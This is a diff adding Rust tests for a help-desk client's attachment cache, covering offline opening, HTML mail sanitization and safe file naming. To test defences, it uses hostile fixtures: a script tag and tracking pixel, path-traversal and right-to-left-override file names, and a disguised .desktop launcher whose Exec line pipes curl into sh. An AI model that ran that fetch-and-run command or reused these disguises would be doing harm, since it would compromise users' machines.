@@ -1,0 +1,306 @@
+//! Files against the real reference server and a real cache: downloaded
+//! once, checked, kept, then opened offline; a customer's HTML mail
+//! sanitized from the cache.
+
+use shiftdesk_domain::inbound_html::{HTML_PART_MEDIA_TYPE, HTML_PART_NAME};
+use shiftdesk_domain::{
+    AgentId, Author, Category, Channel, CustomerId, Message, MessageKind, Plan, Priority, Service,
+    ServiceStage, Thread, Ticket, TicketNumber, TicketStatus, Timestamp,
+};
+use shiftdesk_server::auth;
+
+use super::*;
+use crate::pull::{pull_until_current, PAGE};
+use crate::test_server::{server, Server};
+
+const ME: AgentId = shiftdesk_demo::ME;
+
+struct Desk {
+    server: Server,
+    api: ApiClient,
+    store: Store,
+    files: AttachmentFiles,
+    dir: tempfile::TempDir,
+}
+
+async fn desk() -> Desk {
+    let server = server().await;
+    let token = auth::issue_token(&server.db, ME).await.unwrap().unwrap();
+    let api = ApiClient::new(&server.base, &token).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let store = Store::open(&dir.path().join("cache.sqlite"))
+        .await
+        .unwrap()
+        .store;
+    pull_until_current(&api, &store, PAGE).await.unwrap();
+    let files = AttachmentFiles::new(dir.path().join("attachments"));
+    Desk {
+        server,
+        api,
+        store,
+        files,
+        dir,
+    }
+}
+
+impl Desk {
+    fn online(&self) -> Attachments<'_> {
+        Attachments {
+            store: &self.store,
+            files: &self.files,
+            api: Some(&self.api),
+        }
+    }
+
+    fn offline(&self) -> Attachments<'_> {
+        Attachments {
+            api: None,
+            ..self.online()
+        }
+    }
+
+    /// A file of one of my tickets whose media type is `like`.
+    async fn my_file(&self, like: &str) -> AttachmentId {
+        let id: i64 = sqlx::query_scalar(
+            "SELECT a.id FROM attachments a JOIN tickets t ON t.number = a.ticket_number \
+             WHERE t.assignee_id = ? AND json_extract(a.body, '$.media_type') LIKE ? \
+             ORDER BY a.id LIMIT 1",
+        )
+        .bind(ME.0)
+        .bind(like)
+        .fetch_one(&self.server.db.readers)
+        .await
+        .unwrap();
+        AttachmentId(id)
+    }
+}
+
+#[tokio::test]
+async fn a_file_downloaded_once_opens_offline() {
+    let desk = desk().await;
+    let id = desk.my_file("text/%").await;
+
+    let err = desk.offline().bytes(id).await.unwrap_err();
+    assert_eq!(err.code(), "attachment.not_cached", "{err}");
+
+    let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
+    assert_eq!(bytes.len() as u64, attachment.size_bytes);
+    assert_eq!(AttachmentFiles::hash(&bytes), attachment.content_hash);
+    assert!(desk.files.path_of(&attachment.content_hash).exists());
+
+    // The server is gone: the cached copy still opens.
+    let gone = ApiClient::new("http://127.0.0.1:9", "sdk_gone").unwrap();
+    let unreachable = Attachments {
+        api: Some(&gone),
+        ..desk.online()
+    };
+    assert_eq!(unreachable.bytes(id).await.unwrap().1, bytes);
+    assert_eq!(desk.offline().bytes(id).await.unwrap().1, bytes);
+
+    let open_dir = desk.dir.path().join("opened");
+    let Opening::File { path } = desk.offline().open(id, &open_dir).await.unwrap() else {
+        panic!("a text file opens in the system's app");
+    };
+    assert!(path.starts_with(&open_dir));
+    assert_eq!(std::fs::read(&path).unwrap(), bytes);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+}
+
+#[tokio::test]
+async fn a_screenshot_opens_in_the_window_and_a_damaged_copy_is_fetched_again() {
+    let desk = desk().await;
+    let id = desk.my_file("image/png").await;
+    let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
+    std::fs::write(desk.files.path_of(&attachment.content_hash), b"damaged").unwrap();
+
+    let opening = desk.online().open(id, desk.dir.path()).await.unwrap();
+    assert_eq!(
+        opening,
+        Opening::Image {
+            media_type: "image/png".into(),
+            bytes: bytes.clone()
+        }
+    );
+    assert_eq!(desk.offline().bytes(id).await.unwrap().1, bytes);
+}
+
+#[tokio::test]
+async fn an_unreachable_server_and_an_unknown_file_say_so() {
+    let desk = desk().await;
+    let id = desk.my_file("%").await;
+    let gone = ApiClient::new("http://127.0.0.1:9", "sdk_gone").unwrap();
+    let unreachable = Attachments {
+        api: Some(&gone),
+        ..desk.online()
+    };
+    let err = unreachable.bytes(id).await.unwrap_err();
+    assert_eq!(err.code(), "attachment.not_cached");
+    assert!(err.to_string().contains("cannot be reached"), "{err}");
+    let err = desk
+        .online()
+        .bytes(AttachmentId(i64::MAX))
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), "attachment.unknown");
+}
+
+/// A customer's mail with its HTML part, as sync writes it into the cache.
+fn mail_thread(html: &[u8], files: &AttachmentFiles) -> Thread {
+    let number = TicketNumber(990_001);
+    let at = Timestamp(1_700_000_000_000);
+    let message = MessageId(99_000_100);
+    let part = Attachment {
+        id: AttachmentId(99_000_101),
+        message,
+        name: HTML_PART_NAME.into(),
+        size_bytes: html.len() as u64,
+        content_hash: AttachmentFiles::hash(html),
+        media_type: HTML_PART_MEDIA_TYPE.into(),
+    };
+    files.put(html).unwrap();
+    Thread {
+        ticket: Ticket {
+            number,
+            subject: "Счёт за март".into(),
+            status: TicketStatus::Open,
+            priority: Priority::Normal,
+            category: Category::Billing,
+            plan: Plan::Standard,
+            service: Service {
+                name: "Billing".into(),
+                stage: ServiceStage::GeneralAvailability,
+            },
+            customer: CustomerId(1),
+            channel: Channel::Email,
+            assignee: Some(ME),
+            team: "L2".into(),
+            tags: vec![],
+            version: 1,
+            created_at: at,
+            updated_at: at,
+            sla_due_at: None,
+            status_log: vec![],
+        },
+        messages: vec![Message {
+            id: message,
+            ticket: number,
+            kind: MessageKind::Inbound,
+            channel: Channel::Email,
+            author: Author::Customer { id: CustomerId(1) },
+            body: "Счёт во вложении".into(),
+            created_at: at,
+        }],
+        attachments: vec![part],
+    }
+}
+
+#[tokio::test]
+async fn a_mails_html_part_is_sanitized_from_the_cache() {
+    let desk = desk().await;
+    let html =
+        br#"<p>Invoice</p><img src="http://tracker.example/open.gif"><script>alert(1)</script>
+        <a href="https://billing.example.com/pay">pay</a>"#;
+    let thread = mail_thread(html, &desk.files);
+    desk.store
+        .upsert_threads(std::slice::from_ref(&thread))
+        .await
+        .unwrap();
+    let message = thread.messages[0].id;
+
+    let conversation = desk.store.conversation(thread.ticket.number).await.unwrap();
+    assert_eq!(conversation[0].html_part, Some(thread.attachments[0].id));
+
+    let safe = desk.offline().message_html(message).await.unwrap().unwrap();
+    assert!(safe.html.contains("<p>Invoice</p>"), "{}", safe.html);
+    assert!(!safe.html.contains("script"), "{}", safe.html);
+    assert!(!safe.html.contains("tracker"), "{}", safe.html);
+    assert_eq!(safe.blocked_images, 1);
+    assert_eq!(safe.links, ["https://billing.example.com/pay"]);
+
+    // A message without an HTML part, and one not in the cache.
+    let plain = desk.my_text_message().await;
+    assert_eq!(desk.offline().message_html(plain).await.unwrap(), None);
+    assert_eq!(
+        desk.offline().message_html(MessageId(-77)).await.unwrap(),
+        None
+    );
+}
+
+#[tokio::test]
+async fn an_html_part_over_the_limit_is_refused_before_downloading() {
+    let desk = desk().await;
+    let big = "<p>x</p>".repeat(usize::try_from(MAX_INBOUND_HTML_BYTES).unwrap() / 8 + 1);
+    let mut thread = mail_thread(big.as_bytes(), &desk.files);
+    desk.files
+        .remove(&thread.attachments[0].content_hash)
+        .unwrap();
+    thread.attachments[0].size_bytes = big.len() as u64;
+    desk.store
+        .upsert_threads(std::slice::from_ref(&thread))
+        .await
+        .unwrap();
+    let err = desk
+        .online()
+        .message_html(thread.messages[0].id)
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), "email_html.too_large");
+}
+
+impl Desk {
+    /// One of my cached messages with no HTML part.
+    async fn my_text_message(&self) -> MessageId {
+        let ticket: i64 = sqlx::query_scalar(
+            "SELECT number FROM tickets WHERE assignee_id = ? ORDER BY number LIMIT 1",
+        )
+        .bind(ME.0)
+        .fetch_one(&self.server.db.readers)
+        .await
+        .unwrap();
+        let conversation = self.store.conversation(TicketNumber(ticket)).await.unwrap();
+        conversation
+            .iter()
+            .find(|m| m.html_part.is_none())
+            .map(|m| m.id)
+            .unwrap()
+    }
+}
+
+#[test]
+fn a_customers_file_name_is_written_as_a_plain_name() {
+    for (name, written) in [
+        ("../../.bashrc", "_.._.bashrc"),
+        ("логи/vm-7f3a21.txt", "логи_vm-7f3a21.txt"),
+        (".hidden", "hidden"),
+        ("", "attachment"),
+        ("report\u{202E}fdp.exe", "report_fdp.exe"),
+        ("C:\\Windows\\evil.dll", "C__Windows_evil.dll"),
+    ] {
+        assert_eq!(file_name(name), written, "{name}");
+    }
+}
+
+#[tokio::test]
+async fn a_launcher_is_never_written_out() {
+    let desk = desk().await;
+    let mut thread = mail_thread(b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n", &desk.files);
+    thread.attachments[0].name = "invoice.pdf.desktop".into();
+    thread.attachments[0].media_type = "application/x-desktop".into();
+    desk.store
+        .upsert_threads(std::slice::from_ref(&thread))
+        .await
+        .unwrap();
+    let open_dir = desk.dir.path().join("opened");
+    let err = desk
+        .offline()
+        .open(thread.attachments[0].id, &open_dir)
+        .await
+        .unwrap_err();
+    assert_eq!(err.code(), "attachment.launcher");
+    assert!(!open_dir.exists());
+}
